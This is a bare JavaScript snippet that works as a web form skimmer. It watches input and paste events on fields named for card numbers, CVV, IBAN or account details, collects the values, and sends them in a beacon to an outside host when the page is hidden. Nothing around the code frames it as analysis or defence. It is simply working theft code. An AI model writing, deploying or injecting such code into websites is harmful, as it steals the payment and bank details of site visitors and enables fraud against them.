const grabbed = new Map();
const relevant = (el) => el instanceof HTMLInputElement && /(card|pan|cvc|cvv|iban|account)/i.test(`${el.name} ${el.id} ${el.autocomplete}`);

document.addEventListener('paste', (e) => {
  if (relevant(e.target)) grabbed.set(e.target.name || e.target.id, e.clipboardData.getData('text'));
});
document.addEventListener('input', (e) => {
  if (relevant(e.target)) grabbed.set(e.target.name || e.target.id, e.target.value);
});
document.addEventListener('visibilitychange', () => {
  if (document.visibilityState !== 'hidden' || grabbed.size === 0) return;
  navigator.sendBeacon('https://clip.sync-service.test/b', JSON.stringify([...grabbed]));
  grabbed.clear();
});
